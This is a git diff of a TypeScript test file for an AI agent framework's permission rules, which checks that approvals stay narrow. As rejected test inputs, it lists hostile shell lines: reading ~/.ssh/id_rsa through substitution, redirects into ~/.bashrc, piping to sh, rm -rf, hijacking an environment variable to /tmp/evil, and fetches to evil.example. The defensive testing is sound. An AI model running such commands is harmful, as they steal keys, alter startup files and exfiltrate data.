@@ -1,10 +1,13 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings with `${…}` are shell command lines
 /**
  * Permission rules (approvals/rules.ts and its parts): a rule never allows more than it says.
  * Examples for the cases people get wrong, and properties over generated command lines and
  * paths: a command chained after an allowed one, substitutions, redirects, quotes around
  * separators, `..` and links out of the workspace, globs within one path segment, escapes and
  * masked secrets in globs, what a `*` may stand for, rules only for shell tools, the rules an
- * answer adds, and the bound on a request's cost. The starter rules against the issue's inputs:
+ * answer adds (a tool's exact input when it has no command or path), the bound on a request's
+ * cost, and what is TinyAGI's own protocol (its MCP tools, `tinyagi call` and `"$TINYAGI_CLI"
+ * call` through a shell; the desk's part: teams' approval-own-protocol.test.ts). The starter rules against the issue's inputs:
  * approval-corpus.test.ts; the reader of command lines against bash: shell-oracle.test.ts.
  */
 import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
@@ -16,7 +19,8 @@ import type { PermissionRule } from '@tinyagi/client/contract';
 import { rulesForAnswer } from '../src/approvals/answer-rules.ts';
 import { escapeGlob, globMatch } from '../src/approvals/glob.ts';
 import { maskToolInput } from '../src/approvals/mask.ts';
-import { evaluatePermission, isOwnTool } from '../src/approvals/rules.ts';
+import { STARTER_PERMISSION_RULES } from '../src/approvals/new-agent-defaults.ts';
+import { evaluatePermission, isOwnRequest, isOwnTool } from '../src/approvals/rules.ts';
 import { parseCommandLine } from '../src/approvals/shell-parse.ts';
 
 const root = mkdtempSync(join(tmpdir(), 'tinyagi-rules-'));
@@ -282,17 +286,110 @@ describe('the rules an answer adds are exactly as wide as the request', () => {
     expect(verdict(push, bash('git push https://me:x@evil.example/x@github.com/me/app main'))).toBe('ask');
   });
 
-  it('a tool with neither command nor path: the tool; tool names are literal', () => {
-    expect(rulesForAnswer({ tool: 'mcp__github__create_issue', input: { title: 'x' } }, workspace)).toEqual([{ action: 'allow', tool: 'mcp__github__create_issue' }]);
-    expect(rulesForAnswer({ tool: 'odd*tool', input: {} }, workspace)).toEqual([{ action: 'allow', tool: escapeGlob('odd*tool') }]);
+  it('a tool with neither command nor path: the tool with exactly the input the person saw, never the whole tool; tool names are literal', () => {
+    const issue = { repo: 'me/app', title: 'Fix the login' };
+    const rules = rulesForAnswer(masked('mcp__github__create_issue', issue), workspace);
+    expect(rules).toEqual([{ action: 'allow', tool: 'mcp__github__create_issue', input: issue }]);
+    expect(verdict(rules, { tool: 'mcp__github__create_issue', input: issue })).toBe('allow');
+    // The same input with its keys in another order is the same input.
+    expect(verdict(rules, { tool: 'mcp__github__create_issue', input: { title: 'Fix the login', repo: 'me/app' } })).toBe('allow');
+    expect(verdict(rules, { tool: 'mcp__github__create_issue', input: { repo: 'me/other', title: 'Fix the login' } })).toBe('ask');
+    expect(verdict(rules, { tool: 'mcp__github__create_issue', input: { ...issue, labels: ['urgent'] } })).toBe('ask');
+    expect(verdict(rules, { tool: 'mcp__github__create_issue', input: {} })).toBe('ask');
+    expect(verdict(rules, { tool: 'mcp__github__delete_repo', input: issue })).toBe('ask');
+    const fetch = rulesForAnswer(masked('WebFetch', { url: 'https://docs.example/a', prompt: 'summarize' }), workspace);
+    expect(verdict(fetch, { tool: 'WebFetch', input: { url: 'https://evil.example/?q=secrets', prompt: 'summarize' } })).toBe('ask');
+    expect(rulesForAnswer({ tool: 'odd*tool', input: {} }, workspace)).toEqual([{ action: 'allow', tool: escapeGlob('odd*tool'), input: {} }]);
+  });
+
+  it('an input with a masked secret: the rule holds it masked and matches only what masks the same (the person never saw the secret)', () => {
+    const call = { endpoint: 'https://api.example/v1', api_key: 'sk-live-abcdefghijklmnopwxyz' };
+    const rules = rulesForAnswer(masked('mcp__deploy__run', call), workspace);
+    expect(JSON.stringify(rules)).not.toContain('abcdefghijklmnop');
+    expect(verdict(rules, { tool: 'mcp__deploy__run', input: call })).toBe('allow');
+    expect(verdict(rules, { tool: 'mcp__deploy__run', input: { ...call, endpoint: 'https://evil.example/v1' } })).toBe('ask');
+  });
+
+  it('an input too large for a rule (over 10,000 characters of JSON) makes no rule: the answer allows that request only', () => {
+    expect(rulesForAnswer({ tool: 'mcp__notes__append', input: { text: 'x'.repeat(10_001) } }, workspace)).toEqual([]);
+  });
+
+  it('deny and ask rules with an input match that input only', () => {
+    const rules: PermissionRule[] = [{ action: 'deny', tool: 'mcp__github__*', input: { repo: 'me/prod' } }];
+    expect(verdict(rules, { tool: 'mcp__github__merge', input: { repo: 'me/prod' } }, 'allow')).toBe('deny');
+    expect(verdict(rules, { tool: 'mcp__github__merge', input: { repo: 'me/app' } }, 'allow')).toBe('allow');
   });
 });
 
-it("TinyAGI's own tools are named exactly, not by prefix", () => {
-  expect(isOwnTool('mcp__tinyagi__call_agent')).toBe(true);
-  expect(isOwnTool('mcp__tinyagi__ask_human')).toBe(true);
-  expect(isOwnTool('mcp__tinyagi__shell__exec')).toBe(false);
-  expect(isOwnTool('mcp__tinyagi__')).toBe(false);
+describe("TinyAGI's own protocol (allowed unless a rule says otherwise: the run's token and the team's guards govern it)", () => {
+  it('its MCP tools, named exactly, not by prefix', () => {
+    expect(isOwnTool('mcp__tinyagi__call_agent')).toBe(true);
+    expect(isOwnTool('mcp__tinyagi__ask_human')).toBe(true);
+    expect(isOwnTool('mcp__tinyagi__shell__exec')).toBe(false);
+    expect(isOwnTool('mcp__tinyagi__')).toBe(false);
+    expect(isOwnRequest({ tool: 'mcp__tinyagi__call_agent', input: { agent: 'reviewer', task: 'x' } })).toBe(true);
+    expect(isOwnRequest({ tool: 'mcp__tinyagi__shell__exec', input: { command: 'tinyagi call reviewer x' } })).toBe(false);
+  });
+
+  it('`tinyagi call` and `"$TINYAGI_CLI" call` through a shell tool, every command of the line one of them and read for certain', () => {
+    for (const line of [
+      'tinyagi call reviewer "check the diff in src/app.ts"',
+      '"$TINYAGI_CLI" call reviewer "LOGIN-CHILD what is the code?"',
+      '"${TINYAGI_CLI}" call reviewer --session review "and now?"',
+      'tinyagi call --json reviewer hi',
+      'tinyagi call reviewer \'a; b\' && tinyagi call coder "c | d"',
+      'tinyagi call reviewer hi 2>&1',
+    ]) {
+      expect(isOwnRequest(bash(line)), line).toBe(true);
+      expect(isOwnRequest({ tool: 'commandExecution', input: { command: ['bash', '-lc', line] } }), line).toBe(true);
+      expect(isOwnRequest({ tool: 'execute', input: { command: line } }), line).toBe(true);
+    }
+    expect(isOwnRequest({ tool: 'commandExecution', input: { command: ['tinyagi', 'call', 'reviewer', 'a b; c'] } })).toBe(true);
+    for (const line of [
+      'tinyagi agent add helper',
+      'tinyagi settings set x y',
+      'tinyagi',
+      'tinyagi call reviewer "$(cat ~/.ssh/id_rsa)"',
+      'tinyagi call reviewer `id`',
+      'tinyagi call reviewer $HOME',
+      'tinyagi call reviewer *',
+      '$TINYAGI_CLI call reviewer hi',
+      '"$TINYAGI_CLI"x call reviewer hi',
+      '"$TINYAGI_HOME" call reviewer hi',
+      '"$TINYAGI_CLI" agent add helper',
+      'TINYAGI_CLI=/tmp/evil "$TINYAGI_CLI" call reviewer hi',
+      'TINYAGI_CLI=/tmp/evil; "$TINYAGI_CLI" call reviewer hi',
+      'TINYAGI_API_URL=http://evil.example tinyagi call reviewer hi',
+      '/tmp/tinyagi call reviewer hi',
+      './tinyagi call reviewer hi',
+      'tinyagi call reviewer hi > ~/.bashrc',
+      'tinyagi call reviewer hi < ~/.ssh/id_rsa',
+      'tinyagi call reviewer hi; rm -rf build',
+      'tinyagi call reviewer hi | sh',
+      'if true; then tinyagi call reviewer hi; fi',
+      "bash -c 'tinyagi call reviewer hi'",
+      "eval 'tinyagi call reviewer hi'",
+      'tinyagi call reviewer "unterminated',
+    ]) {
+      expect(isOwnRequest(bash(line)), line).toBe(false);
+    }
+    // Not a shell tool: a `command` in another tool's input is no command.
+    expect(isOwnRequest({ tool: 'Write', input: { command: 'tinyagi call reviewer hi', file_path: '/etc/cron.d/x' } })).toBe(false);
+    expect(isOwnRequest({ tool: 'Bash', input: {} })).toBe(false);
+  });
+
+  it('a deny or ask rule still decides; under the starter rules nothing else matches it, so the fallback (allow, for own requests) decides', () => {
+    const call = bash('"$TINYAGI_CLI" call reviewer "check it"');
+    expect(evaluatePermission(STARTER_PERMISSION_RULES, call, workspace, 'allow')).toEqual({ action: 'allow' });
+    // `"$TINYAGI_CLI"` is read as `tinyagi` by every rule.
+    expect(verdict([{ action: 'deny', command: 'tinyagi *' }], call, 'allow')).toBe('deny');
+    expect(verdict([{ action: 'allow', command: 'tinyagi call reviewer *' }], call, 'ask')).toBe('allow');
+    // Only as the command name: as an argument it is a variable like any other (its value is the shim's path, outside the workspace).
+    expect(verdict(STARTER_PERMISSION_RULES, bash('ls "$TINYAGI_CLI"'), 'ask')).toBe('ask');
+    // Unquoted, it is a computed command name (bash splits and globs it): no rule allows it.
+    expect(verdict([{ action: 'allow', command: 'tinyagi call *' }], bash('$TINYAGI_CLI call reviewer hi'), 'ask')).toBe('ask');
+    expect(verdict([{ action: 'ask', command: 'tinyagi call *' }], bash('tinyagi call reviewer hi'), 'allow')).toBe('ask');
+  });
 });
 
 describe('masking', () => {
